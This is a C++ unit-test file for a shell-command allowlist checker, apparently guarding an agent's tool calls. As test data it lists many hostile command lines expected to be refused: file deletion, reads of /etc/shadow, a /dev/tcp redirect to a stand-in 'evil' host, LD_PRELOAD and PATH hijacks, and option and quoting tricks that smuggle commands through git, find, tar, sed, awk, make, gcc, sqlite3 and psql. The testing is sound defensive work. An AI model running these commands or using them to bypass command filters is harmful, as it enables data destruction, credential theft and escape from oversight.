#include "policy/tools/command_line.h"

#include <gtest/gtest.h>

#include "base/text.h"
#include "base/value.h"
#include "policy/cursor.h"
#include "policy/tools/rule.h"

namespace paddock::policy {

namespace {

ToolRule rule_of(const char* list) {
  Value entry = parse_json(cat(R"({"param": "c", "command_in": )", list, "}"), "rule").value();
  std::string name = "rule";
  return compile_rule(Cursor(entry, name)).value();
}

std::string objection(const ToolRule& rule, Value command) {
  Value arguments;
  arguments.set("c", std::move(command));
  std::optional<Objection> found = object(rule, arguments);
  return found ? found->words : "";
}

const ToolRule& common() {
  static const ToolRule rule = rule_of(
      R"(["git", "ls", "cat", "grep", "find", "tar", "sed", "awk", "head", "echo", "npm test", "sort", "python3", "printf", "[", "make", "gcc", "test"])");
  return rule;
}

}  // namespace

TEST(CommandLine, IsTakenApartIntoItsCommands) {
  std::vector<Command> commands = commands_in(
                                      "git fetch && LANG=C git log --format='%h  %s' | head -n \"3 "
                                      "4\" 2>&1 >/dev/null; ls a\\ b\n echo ok &")
                                      .value();
  EXPECT_EQ(commands, (std::vector<Command>{{"git", "fetch"},
                                            {"git", "log", "--format=%h  %s"},
                                            {"head", "-n", "3 4"},
                                            {"ls", "a b"},
                                            {"echo", "ok"}}));
}

TEST(CommandLine, WhatIsListedRuns) {
  for (const char* line : {"git status",
                           "git -C sub log -p -c",
                           "git --no-pager diff",
                           "git switch -c new",
                           "ls -la ./*.py",
                           "grep -rn 'a|b' src | head",
                           "find . -name '*.cc' -type f",
                           "tar -xzf a.tgz",
                           "sed -n 1,5p file",
                           "sed -e 's/a b/c/g' file",
                           "awk '{print $1}' file",
                           "npm test",
                           "npm test -- -x",
                           "python3 -c 'print(1)'",
                           "echo \"a; b && c\"",
                           "echo 'a $(b) `c`'",
                           "LC_ALL=C sort file",
                           "git log 2>/dev/null",
                           "[ -f x ]",
                           "git commit -m 'ü'",
                           "make -j4 all",
                           "gcc -DNDEBUG -O2 a.c",
                           "git config --get user.name",
                           "cat a \\\n b"})
    EXPECT_EQ(objection(common(), line), "") << line;
  EXPECT_EQ(objection(common(), Value(Value::Array{"git", "status"})), "");
  // No shell reads it.
  EXPECT_EQ(objection(common(), Value(Value::Array{"echo", "$(rm -rf /)", "; rm"})), "");
}

TEST(CommandLine, WhatHidesACommandIsRefused) {
  for (const char* line :
       {// other commands
        "rm -rf /", "git status; rm x", "git status && rm x", "git status || rm x",
        "git status | rm", "git status & rm x", "git status\nrm x", "git status |& rm",
        "Git status", "./git status", "/tmp/git status", "gi\\t status", "'git' status",
        "\"git\" status", "g'i't status", "npm install", "npm", "npm exec x",
        // substitutions and variables
        "git $(rm x)", "git `rm x`", "git \"$(rm x)\"", "git \"`rm`\"", "git $HOME", "$X",
        "git ${X}", "git $'\\x41'", "git <(rm x)", "(git status)", "{ git status; }",
        "git() { rm; }; git", "git {a,b}", "echo $((1+1))", "! git status",
        // redirections
        "echo x > file", "echo x >> ~/.bashrc", "cat < /etc/shadow", "cat <<EOF\nrm\nEOF",
        "cat <<< x", "echo x >| f", "echo x 2>file", "echo x &> f", "echo x >&3",
        "echo x >/dev/null2", "echo x > /dev/tcp/evil/80",
        // variables in front, built-ins that set some
        "PATH=/tmp git status", "LD_PRELOAD=x.so git status", "GIT_PAGER=evil git log",
        "GIT_SSH_COMMAND=x git fetch", "X=1", "X=1; git status", "X+=1 git log",
        "export PATH=/tmp; git status", "declare -x A=b", "alias git=rm", "hash -p /tmp/evil git",
        "trap 'rm x' EXIT", "set -- x", "printf -v PATH /tmp", "enable -f x.so git", "source x",
        ". x", "eval rm", "exec rm", "command rm", "builtin cd", "a[0]=1 git log",
        // wrappers
        "env X=1 git status", "env git status", "sh -c 'git status'", "bash -c rm", "/bin/sh -c rm",
        "xargs rm", "ls | xargs rm", "sudo git status", "nohup git status", "timeout 5 git status",
        "nice git log", "time git log", "watch ls", "busybox rm", "less x", "vim -c '!rm'",
        "man ls", "npx evil",
        // options that run something
        "git -c core.pager=evil log", "git -ccore.pager=evil log",
        "git --config-env=core.pager=X log", "git --exec-path=/tmp log",
        "git config core.pager evil", "git config alias.x '!rm'", "git x", "git -p log",
        "git --git-dir=/tmp/evil status", "git clone -c core.fsmonitor=x y",
        "git clone --upload-pack=evil x", "git fetch --upload-pa=evil x",
        "git clone 'ext::sh -c rm'", "git grep -Oevil x", "git grep --open-files-in-pager=evil",
        "git rebase -x rm", "git rebase --exec=rm", "git bisect run rm", "git submodule foreach rm",
        "git push --receive-pack=evil", "git difftool -x rm", "git diff --output=/etc/x",
        "git archive --remote=x --exec=evil", "git archive -o /etc/x HEAD", "git help log",
        "find . -exec rm {} \\;", "find . -exec rm '{}' +", "find . -execdir rm x \\;",
        "find . -ok rm x \\;", "find . -delete", "find . -fprintf /etc/x y",
        "find . '-exec' rm x \\;", "find . -e\\xec rm x \\;", "tar -xf a --to-command=rm",
        "tar xIf evil a", "tar cfT a list", "tar -cf a --files-from=list",
        "tar --rmt-command=x -cf a:b c", "tar -x -I evil -f a",
        "tar --checkpoint-action=exec=rm -cf a b", "tar --use-comp=evil -xf a",
        "tar --to-c rm -xf a", "sort --compress-program=evil x", "sort -o /etc/passwd x",
        "awk 'BEGIN{system(\"rm\")}'", "awk 'BEGIN{print | \"sh\"}'", "awk '{print > \"f\"}'",
        "awk -f x", "sed '1e rm'", "sed 's/a/b/e' f", "sed 's/a/b/w f' g", "sed -i s/a/b/ f",
        "sed -f x f", "sed 'w f' x", "sed -n -e '1p' -e '1e rm' f", "sed 's/[/]/x/;e rm' f",
        "make SHELL=/tmp/evil", "make --eval='x:=$(shell rm)'", "gcc -wrapper /tmp/evil,x a.c",
        "gcc -B/tmp a.c", "test -v 'a[$(rm)]'",
        // odd text
        "", "   ", "\n", ";", "git status ;; ls", "| git status", "git status |", "git status &&",
        "git 'unclosed", "git \"unclosed", "git \\", "git status # x", "tar -xf a --*",
        "find . -e*", "git \xc2\xa0status", "ls *", "ls ?x", "g?t status", "git\rstatus",
        "git status\x01", "~/git status", "[[ -f x ]]", "if true; then rm; fi",
        "for x in a; do rm; done", "while true; do rm; done", "function f { rm; }", "coproc rm"})
    EXPECT_NE(objection(common(), line), "") << line;
  EXPECT_NE(objection(common(), std::string("git\0status", 10)), "");
  EXPECT_NE(objection(common(), std::string(100'000, 'a')), "");
  for (const Value& argv :
       {Value(Value::Array{}), Value(Value::Array{""}), Value(Value::Array{"rm", "x"}),
        Value(Value::Array{"git", 5}), Value(Value::Array{"git", "-c", "x=y", "log"}),
        Value(Value::Array{"/bin/sh", "-c", "ls"}), Value(Value::Array{"git status"}), Value(5),
        Value(), Value(Value::Array{"find", ".", "-exec", "rm"})})
    EXPECT_NE(objection(common(), argv), "") << to_json(argv);
}

// Each of these is read by a shell otherwise than it looks.
TEST(CommandLine, AreReadAsAShellReadsThem) {
  EXPECT_EQ(commands_in("find . \"-ex\\\nec\" x").value(),
            (std::vector<Command>{{"find", ".", "-exec", "x"}}));
  EXPECT_EQ(commands_in("cat a\\\nb \\\n\\\n c \"d\\\\\ne\"").value(),
            (std::vector<Command>{{"cat", "ab", "c", "d\\\ne"}}));
  for (const char* line :
       {"find . \"-ex\\\nec\" touch x ';'", "find . -ex\\\nec touch x ';'", "echo \\\n# '\nrm x\n'",
        "echo \\\n\\\n#'\nrm x\n'", "\\\n# '\nrm x\n'",
        // files could turn these into options, or into a program
        "tar cf x.tar ''*", "tar cf x.tar \"\"*", "tar cf x.tar \\\n*", "tar cf x.tar ''\\\n?x",
        "tar cf x.tar ''[-]x", "tar c* x", "awk B* x", "make S*", "npm test e*", "ls '-'./*",
        "echo a\\\n>f", "echo &\\\n& rm", "echo >/dev/null\\\nx", "git {status,log}", "git $\"x\"",
        "cat <<<x", "cat <(rm)", "echo 22>&1", "git status\r\nrm x", "LANGUAGE=/tmp/x git log",
        "LANG=../../tmp/x git log", "TZ=:/etc/shadow git log", "LC_ALL='a/../b' git log"})
    EXPECT_NE(objection(common(), line), "") << line;
  for (const char* line : {"ls a/*.py", "ls ./a*.py", "git commit -m \"a \\\n b\n\nc\"",
                           "\\\ngit status", "TZ=Europe/Berlin git log", "LC_ALL=C.UTF-8 git log"})
    EXPECT_EQ(objection(common(), line), "") << line;
}

TEST(CommandLine, OptionsThatRunOrWriteSomethingAreRefused) {
  const ToolRule rule = rule_of(
      R"(["git", "[", "test", "gcc", "gcc-12", "clang", "ssh-keygen", "sqlite3", "make", "scp", "cmake", "wait", "diff3"])");
  for (const char* line : {"git ls-remote --exec=/tmp/x .",
                           "git ls-remote --upload-pack=x .",
                           "git fetch --exec=x .",
                           "git diff-tree --output=f HEAD",
                           "git reflog --output=f",
                           "git shortlog --outp=f",
                           "git stash show --output=f",
                           "git blame --ext-diff x",
                           "git bisect view",
                           "git bisect visualize",
                           "git bisect run x",
                           "git bisect replay f",
                           "git bisect",
                           "git log --help",
                           "git apply --unsafe-paths x",
                           "git format-patch -o /etc HEAD",
                           "git clone x::y",
                           "git archive --remote=ext::x HEAD",
                           "git fetch ext::x",
                           "[ -v 'a[$(touch x)]' ]",
                           "[ ! -v 'a[$(touch x)]' ]",
                           "[ 'a[$(touch x)]' -eq 0 ]",
                           "test -R x",
                           "test '`x`' -eq 0",
                           "gcc @options",
                           "gcc -specs=x a.c",
                           "gcc --specs=x a.c",
                           "gcc -specs x a.c",
                           "gcc-12 -wrapper x a.c",
                           "gcc --prefix=/tmp a.c",
                           "gcc -Wl,-plugin,x.so a.c",
                           "gcc -Xlinker -plugin a.c",
                           "clang -Xclang -load a.c",
                           "ssh-keygen -D x.so",
                           "ssh-keygen -lD x.so",
                           "sqlite3 db '.shell rm x'",
                           "sqlite3 db",
                           "sqlite3 -cmd '.shell x' -safe db",
                           "sqlite3 -safe -init f db",
                           "sqlite3 -safe -nonce x db",
                           "sqlite3 db -safe",
                           "make 'X=$(shell touch x)'",
                           "make 'X!=touch x'",
                           "make CC=/tmp/x",
                           "make CC='touch x;'",
                           "make -f- x",
                           "make -f - x",
                           "make -f /dev/stdin",
                           "make '$(shell x)'",
                           "make 'X:=y'",
                           "scp -D x a b:",
                           "cmake -P x",
                           "cmake -E env x",
                           "wait -p x",
                           "diff3 --diff-program=x a b c"})
    EXPECT_NE(objection(rule, line), "") << line;
  for (const char* line :
       {"git bisect start HEAD v1", "git bisect good", "git bisect log", "git ls-remote origin",
        "git log --oneline --out-of-x", "git commit --edit", "git grep std::vector", "[ -f x ]",
        "[ a = b ]", "gcc -O2 -Wall a.c", "ssh-keygen -lf x", "sqlite3 -safe db 'select 1'",
        "make V=1 DEBUG=no all", "make -j4 -C sub", "cmake -DENABLE_X=ON -S . -B b", "test -n x"})
    EXPECT_EQ(objection(rule, line), "") << line;
}

TEST(CommandLine, DatabaseShellsRunOnlyWhatStandsInTheLine) {
  const ToolRule rule = rule_of(R"(["psql"])");
  for (const char* line :
       {"psql -c '\\! id'", "psql -X -c '\\! id'", "psql -X -c 'select 1 \\g |id'",
        "psql -X -c \"copy t to program 'id'\"", "psql -X -c 'COPY t FROM Program $$id$$'",
        "psql -X -f script.sql", "psql -X", "psql -c 'select 1'", "psql -X -o '|id' -c 'select 1'",
        "psql -X -v x=1 -c 'select 1'", "psql -X --command='\\! id'", "psql -Xc 'select 1' -f x",
        "psql -X -L /etc/x -c 'select 1'", "psql -X --log-file=x -c 'select 1'"})
    EXPECT_NE(objection(rule, line), "") << line;
  for (const char* line : {"psql -X -c 'select 1'",
                           "psql -X -At -h db -U reader -d shop -c 'select count(*) from orders'",
                           "psql --no-psqlrc --csv --command='select 1'"})
    EXPECT_EQ(objection(rule, line), "") << line;
  for (const char* name : {"mysql", "mariadb", "mongosh", "sqlplus", "lldb", "lynx"})
    EXPECT_NE(runs_other_commands(name), nullptr) << name;
}

TEST(CommandLine, SaysWhy) {
  EXPECT_EQ(objection(rule_of(R"(["git"])"), "rm x"), "c must run nothing but 'git', not 'rm'");
  EXPECT_EQ(objection(rule_of(R"(["git"])"), "env X=1 git log"),
            "c cannot be judged: 'env' runs another command, which is not the one that is listed");
  EXPECT_EQ(objection(rule_of(R"(["git"])"), "git -c a=b log"),
            "c cannot be judged: '-c' is an option of git that can make it run another program");
}

TEST(CommandLine, AWrapperCannotBeListed) {
  for (const char* name :
       {"sh", "bash", "env", "xargs", "/usr/bin/env", "eval", "git; ls", "git $x"}) {
    Value entry =
        parse_json(cat(R"({"param": "c", "command_in": ["git", )", to_json(Value(name)), "]}"),
                   "rule")
            .value();
    std::string file = "rule";
    EXPECT_FALSE(compile_rule(Cursor(entry, file))) << name;
  }
}

}  // namespace paddock::policy
